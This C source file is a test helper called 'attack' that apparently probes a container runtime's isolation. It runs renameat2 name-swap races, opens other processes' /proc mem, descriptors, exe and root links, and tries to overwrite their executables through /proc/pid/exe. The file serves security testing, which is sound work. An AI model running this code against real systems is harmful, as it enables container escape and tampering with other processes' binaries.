/* Runs in a test's container, or beside one, and does what an attacker would.
 *
 *     attack exchange A B STOP        exchanges the names A and B again and again, until the file STOP is there
 *     attack spy STOP                 looks into every other process that executes nothing of /bin, until STOP is there
 *     attack overwrite STOP           writes to what every other process of that kind executes, likewise
 *     attack descriptors              lists its own descriptors, with what they name
 *
 * spy prints a line for each thing that it got hold of: "mem", "fd", "exe" or "root", the process's name, and
 * where a link led. overwrite prints "held" for each executable that it could open, "opened" for each that it could open
 * for writing, and "written" for each that it changed.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static char comm[64];

static int stopped(const char *stop)
{
    return access(stop, F_OK) == 0;
}

static const char *place(int pid, const char *name)
{
    static char path[512];

    snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
    return path;
}

/* The link's target, or NULL where we may not read it. */
static const char *target(int pid, const char *name)
{
    static char link[4096];
    ssize_t n = readlink(place(pid, name), link, sizeof(link) - 1);

    if (n < 0)
        return NULL;
    link[n] = '\0';
    return link;
}

static int read_comm(int pid)
{
    int fd = open(place(pid, "comm"), O_RDONLY | O_CLOEXEC);
    ssize_t n = fd < 0 ? -1 : read(fd, comm, sizeof(comm) - 1);

    if (fd >= 0)
        close(fd);
    if (n <= 0)
        return 0;
    comm[n] = '\0';
    comm[strcspn(comm, "\n")] = '\0';
    return 1;
}

/* Whether a process executes what none of the image's programs is. */
static int is_alien(int pid)
{
    char program[128];

    if (!read_comm(pid) || strchr(comm, '/'))
        return 0;
    snprintf(program, sizeof(program), "/bin/%s", comm);
    return access(program, F_OK) != 0;
}

static void found(const char *what, const char *link)
{
    printf("%s %s %s\n", what, comm, link ? link : "");
    fflush(stdout);
}

/* What is just being executed, from a descriptor: its name is that, and its memory may be of before or after. */
static int is_in_between(void)
{
    return strspn(comm, "0123456789") == strlen(comm);
}

/* Whether a process is what it was when we began with it: else we do not know whose the thing is that we got. */
static int is_still(int pid, const char *before)
{
    return is_alien(pid) && strcmp(comm, before) == 0;
}

static void spy(int pid)
{
    char names[64], before[sizeof(comm)];
    struct dirent *entry;
    DIR *fds;
    int fd;

    if (!is_alien(pid) || is_in_between())
        return;
    strcpy(before, comm);
    fd = open(place(pid, "mem"), O_RDWR | O_CLOEXEC);
    if (fd >= 0) {
        if (is_still(pid, before))
            found("mem", target(pid, "exe"));
        close(fd);
    }
    if ((fds = opendir(place(pid, "fd")))) {
        while ((entry = readdir(fds))) {
            const char *link;

            snprintf(names, sizeof(names), "fd/%.32s", entry->d_name);
            if (isdigit((unsigned char)entry->d_name[0]) && atoi(entry->d_name) > 2 && (link = target(pid, names)) &&
                is_still(pid, before))
                found("fd", link);
        }
        closedir(fds);
    }
    fd = open(place(pid, "exe"), O_RDONLY | O_CLOEXEC);
    if (fd >= 0) {
        if (is_still(pid, before))
            found("exe", target(pid, "exe"));
        close(fd);
    }
    fd = open(place(pid, "root/."), O_PATH | O_CLOEXEC);
    if (fd >= 0) {
        if (is_still(pid, before))
            found("root", target(pid, "root"));
        close(fd);
    }
}

static void overwrite(int pid)
{
    char own[64];
    int fd, written;

    if (!is_alien(pid))
        return;
    fd = open(place(pid, "exe"), O_PATH | O_CLOEXEC);
    if (fd < 0)
        return;
    found("held", target(pid, "exe"));
    snprintf(own, sizeof(own), "/proc/self/fd/%d", fd);
    for (int i = 0; i < 20000; i++) { /* busy as long as it is executed */
        written = open(own, O_WRONLY | O_CLOEXEC);
        if (written >= 0) {
            found("opened", NULL);
            if (write(written, "#!/bin/attack\n", 14) > 0 || ftruncate(written, 0) == 0)
                found("written", NULL);
            close(written);
            break;
        }
    }
    close(fd);
}

static int each_process(void (*act)(int), const char *stop)
{
    puts("ready");
    fflush(stdout);
    while (!stopped(stop)) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;

        while (proc && (entry = readdir(proc))) {
            int pid = atoi(entry->d_name);

            if (pid <= 0 || pid == getpid() || pid == getppid())
                continue;
            act(pid);
        }
        if (proc)
            closedir(proc);
    }
    return 0;
}

static int exchange(const char *a, const char *b, const char *stop)
{
    unsigned long done = 0;

    puts("ready");
    fflush(stdout);
    do {
        for (int i = 0; i < 100; i++)
            done += syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0;
    } while (!stopped(stop));
    printf("exchanged %lu\n", done);
    return 0;
}

static int descriptors(void)
{
    char path[64], link[4096];

    for (int fd = 0; fd < 1024; fd++) {
        ssize_t n;

        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        n = readlink(path, link, sizeof(link) - 1);
        if (n > 0)
            printf("%d %.*s\n", fd, (int)n, link);
    }
    return 0;
}

int main(int argc, char **argv)
{
    if (argc == 5 && strcmp(argv[1], "exchange") == 0)
        return exchange(argv[2], argv[3], argv[4]);
    if (argc == 3 && strcmp(argv[1], "spy") == 0)
        return each_process(spy, argv[2]);
    if (argc == 3 && strcmp(argv[1], "overwrite") == 0)
        return each_process(overwrite, argv[2]);
    if (argc == 2 && strcmp(argv[1], "descriptors") == 0)
        return descriptors();
    fputs("attack: unknown\n", stderr);
    return 125;
}
